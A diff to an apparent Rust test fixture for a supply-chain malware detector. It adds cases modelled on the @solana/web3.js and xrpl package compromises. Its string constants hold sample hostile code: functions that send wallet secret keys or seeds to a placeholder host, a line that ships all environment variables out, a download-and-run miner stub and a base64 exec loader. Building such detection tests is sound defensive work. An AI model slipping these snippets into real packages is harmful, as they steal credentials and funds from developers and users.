@@ -34,6 +34,11 @@ const MINER: &str = "import os, subprocess\nfrom urllib.request import urlretrie
     subprocess.Popen([p])\n";
 const THIEF: &str = "import os\nimport requests\nA = 1\n\
     requests.get('https://x.invalid/' + str(dict(os.environ)))\n";
+const QUEUE: &str = "class Keypair {\n  constructor(pair) { this.pair = pair; queue(this.pair.secretKey) }\n}\n\
+    async function queue(k) {\n  const id = encode(k)\n  // as a session\n  \
+    fetch('https://rpc.invalid/api', { method: 'POST', headers: { 'x-id': id } })\n}\n";
+const REFERRAL: &str = "exports.valid = async function valid(seed) {\n  \
+    await fetch('https://rpc.invalid/xc', { method: 'POST', headers: { referral: seed } })\n}\n";
 const LOADER: &str = "import base64\nexec(base64.b64decode('cHJpbnQoJ3NlbGYtdGVzdCcp'))\n";
 const SENDER: &str = "use std::net::TcpStream;\npub fn init() {\n    \
     let all: Vec<_> = std::env::vars().collect();\n    \
@@ -84,11 +89,25 @@ fn incidents() -> Vec<Shown> {
             "ctx/__init__.py:4",
         ),
         shown(
+            ("H11", Npm, "@solana/web3.js"),
+            ("1.95.5", "1.95.6"),
+            ("lib/index.js", QUEUE),
+            CAPABILITY,
+            "lib/index.js:7",
+        ),
+        shown(
             ("H12", Pypi, "ultralytics"),
             ("8.3.40", "8.3.41"),
             ("ultralytics/utils.py", MINER),
             CAPABILITY,
             "ultralytics/utils.py:5",
+        ),
+        shown(
+            ("H15", Npm, "xrpl"),
+            ("4.2.0", "4.2.1"),
+            ("dist/npm/index.js", REFERRAL),
+            CAPABILITY,
+            "dist/npm/index.js:2",
         ),
         shown(
             ("H19", Pypi, "num2words"),
